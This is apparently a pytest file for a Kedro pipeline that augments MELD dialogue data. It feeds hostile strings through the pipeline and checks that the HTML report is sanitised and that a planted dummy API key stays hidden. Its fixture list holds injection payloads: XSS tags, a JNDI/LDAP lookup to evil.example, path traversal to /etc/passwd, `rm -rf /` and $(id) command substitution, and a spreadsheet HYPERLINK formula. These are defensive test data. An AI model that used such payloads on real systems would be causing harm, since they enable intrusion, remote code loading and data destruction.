"""Hostile texts come through as texts, and what is secret stays so."""

import csv
import dataclasses
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from erc_kedro.corpora import CORPORA
from tests.conftest import ROOT, Project

HOSTILE = [
    "<script>alert('x')</script> and <img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} {% for x in y %} ${jndi:ldap://evil.example/a} #{1+1}",
    "../../../etc/passwd and C:\\windows\\system32 and `rm -rf /`; $(id)",
    "safe \u202egnp.exe\u202c and zero\u200bwidth\u2060 and \ufeffmark",
    '=HYPERLINK("http://evil.example") 👩‍👩‍👧‍👦 🎉 שלום مرحبا',
    "</title></style></svg><svg onload=alert(2)> <!-- ]]> &lt;b&gt;",
]
LONG = "very " * 20_000 + "<script>alert(3)</script>"


class Harmful(HTMLParser):
    """Collects what could run or reach out in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "iframe", "object", "embed", "link", "base", "form"}:
            self.found.append(tag)
        for name, value in attrs:
            outward = name in {"src", "href"} and not (value or "").startswith(("#", "data:"))
            if name.startswith("on") or (outward and not name.startswith("xlink")):
                self.found.append(f"{tag} {name}={value}")


@pytest.fixture
def hostile(project: Project, monkeypatch: pytest.MonkeyPatch) -> Project:
    """A project whose corpus and bank hold hostile texts, speakers too."""
    corpus = CORPORA["meld"]
    assert corpus.sample is not None
    folder = project.path / "hostile"
    folder.mkdir()
    for name in corpus.layouts[0].files:
        with (corpus.sample / name).open(newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file))
        for number, row in enumerate(rows):
            if number % 9 == 0:
                row["Utterance"] = f"{HOSTILE[number // 9 % len(HOSTILE)]} {number} {name}"
            if number % 31 == 0:
                row["Speaker"] = "<b onclick=alert(4)>../Eve</b>"
        rows[5]["Utterance"] = f"{LONG} {name}"
        with (folder / name).open("w", newline="", encoding="utf-8") as file:
            writer = csv.DictWriter(file, rows[0].keys())
            writer.writeheader()
            writer.writerows(rows)
    changed = dataclasses.replace(corpus, sample=folder)
    monkeypatch.setattr("erc_kedro.corpora.CORPORA", dict(CORPORA) | {"meld": changed})
    _write_bank(project.path / "bank")
    (project.path / "conf/test/catalog.yml").write_text(
        '"{corpus}.language_model":\n'
        "  type: erc_kedro.datasets.LanguageModelDataset\n"
        "  backend: bank\n"
        f'  options: {{corpus: "{{corpus}}", folder: "{project.path / "bank"}"}}\n'
    )
    return project


def _write_bank(folder: Path) -> None:
    folder.mkdir()
    for path in sorted((ROOT / "src/erc_kedro/bank/meld").glob("*.jsonl")):
        lines = []
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines()):
            pair = json.loads(line)
            turns = pair["completion"]["turns"]
            if number % 4:  # the others are there for the gate
                turns[0]["text"] = f"{HOSTILE[number % len(HOSTILE)]} {path.stem} {number}"
            if number % 7 == 0:
                turns[-1]["text"] = LONG
            lines.append(json.dumps(pair, ensure_ascii=False))
        (folder / path.name).write_text("\n".join(lines) + "\n", encoding="utf-8")


def test_a_hostile_corpus_runs_through_and_shows_up_harmless(hostile: Project) -> None:
    relaxed = {"min_accepted": 0.01, "max_share_deviation": 1, "max_kl": 10}
    hostile.run("augment_meld", {"meld": {"validation": relaxed}})
    train = pd.read_parquet(hostile.path / "data/02_intermediate/meld/train_dialogues.parquet")
    assert train["text"].str.contains("alert('x')", regex=False).any()
    assert train["text"].str.len().max() > 100_000
    refused = pd.read_parquet(hostile.path / "data/03_primary/meld/refused_dialogues.parquet")
    assert refused["text"].str.contains("alert(3)", regex=False).any()
    page = hostile.read("08_reporting/meld/report.html").decode()
    assert len(page) < 3_000_000
    checked = Harmful()
    checked.feed(page)
    assert checked.found == []
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff]", page)
    assert "<script" not in page
    for artifact in (hostile.path / "mlartifacts").rglob("*.html"):
        assert not re.search(r"<script>alert|<img src=x|<svg onload", artifact.read_text()), (
            artifact
        )
    assert not list(Path("/etc").glob("passwd.new"))
    written = {path.relative_to(hostile.path).parts[0] for path in hostile.path.rglob("*")}
    assert written <= {
        "conf", "src", "data", "bank", "hostile", "mlartifacts", "mlflow.db", "pyproject.toml",
        ".telemetry", ".viz",
    }  # fmt: skip


PLANTED = "sk-planted-0123456789"


@pytest.fixture
def planted(project: Project, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """A secret in credentials and environment; parameters that say it, by their paths."""
    credentials = f"service:\n  api_key: {PLANTED}\n"
    (project.path / "conf/local/credentials.yml").write_text(credentials)
    monkeypatch.setenv("OTHER_API_KEY", f"{PLANTED}-in-environment")
    said = f"key {PLANTED} and {PLANTED}-in-environment and http://ann:{PLANTED}@host"
    return {"speech_register": said}


def test_a_planted_credential_is_shown_nowhere(
    project: Project,
    planted: dict[str, str],
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    project.run("augment_meld", {"meld": {"generation": planted}})
    said = capfd.readouterr()
    assert "augmented" in said.out
    assert "Report: " in caplog.text
    _check_hidden(project, said.out + said.err + caplog.text)


def test_a_planted_credential_is_not_shown_by_an_error(
    project: Project, planted: dict[str, str]
) -> None:
    params = f"--params=meld.generation.speech_register={planted['speech_register']}"
    params += f",meld.encoding.encoder=./{PLANTED}"
    done = project.kedro("run", "--pipeline=augment_meld", "--env=test", params)
    assert done.returncode != 0
    assert "[hidden]" in done.stderr
    _check_hidden(project, done.stdout + done.stderr)


def _check_hidden(project: Project, said: str) -> None:
    assert PLANTED not in said
    for place in ("mlartifacts", "data/08_reporting"):
        for path in (project.path / place).rglob("*"):
            assert path.is_dir() or PLANTED.encode() not in path.read_bytes(), path
    assert PLANTED.encode() not in (project.path / "mlflow.db").read_bytes()
    [*_, parent] = project.runs()
    assert parent.data.params["meld.generation.speech_register"].startswith("key [hidden]")


def test_the_catalog_in_mlflow_names_credentials_and_does_not_hold_them(
    project: Project, overlay: Any
) -> None:
    overlay("credentials.yml", f"service: {{key: {PLANTED}}}\n")
    overlay(
        "catalog_more.yml",
        '"{corpus}.corpus_facts":\n  type: json.JSONDataset\n'
        "  filepath: data/02_intermediate/{corpus}/corpus_facts.json\n  credentials: service\n"
        "  fs_args: {}\n",
    )
    project.run("prepare_meld")
    texts = [path.read_text() for path in (project.path / "mlartifacts").rglob("catalog.yml")]
    assert any("credentials: service" in text for text in texts)
    assert PLANTED not in "".join(texts)
